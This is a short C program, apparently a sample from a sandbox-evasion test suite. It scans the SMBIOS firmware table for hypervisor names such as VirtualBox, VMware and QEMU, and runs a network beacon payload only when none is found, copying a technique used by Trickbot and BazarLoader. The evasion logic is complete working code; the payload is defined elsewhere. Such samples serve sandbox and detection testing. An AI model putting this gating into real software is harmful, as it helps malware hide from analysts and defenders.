/* evasion_firmware_table — the SMBIOS tables: GetSystemFirmwareTable('RSMB', 0) returns the raw
 * SMBIOS data, whose strings name the hypervisor ("VirtualBox", "innotek GmbH", "VMware",
 * "QEMU", "Xen") in a VM (al-khaser SMBIOS checks, Trickbot, BazarLoader). Payload (beacon over
 * WinINet) only when none appears. */
#define EVASION_BEACON_HTTP
#include "evasion.h"

static const char *const kVendors[] = {"VirtualBox", "innotek", "VMware", "QEMU", "Xen ",
                                       "Parallels"};

static BOOL virtual_smbios(void) {
  const DWORD rsmb = 'R' << 24 | 'S' << 16 | 'M' << 8 | 'B';
  UINT size = GetSystemFirmwareTable(rsmb, 0, NULL, 0);
  if (size == 0) return FALSE;
  BYTE *table = HeapAlloc(GetProcessHeap(), 0, size);
  if (!table) return FALSE;
  BOOL found = FALSE;
  UINT got = GetSystemFirmwareTable(rsmb, 0, table, size);
  if (got > 0 && got <= size) {
    for (unsigned i = 0; i < sizeof kVendors / sizeof kVendors[0] && !found; ++i) {
      found = evasion_memfind(table, got, kVendors[i]);
    }
  }
  HeapFree(GetProcessHeap(), 0, table);
  return found;
}

int main(void) {
  if (virtual_smbios()) {
    evasion_decoy("evasion_firmware_table");
  } else {
    evasion_payload("evasion_firmware_table");
  }
  return 0;
}
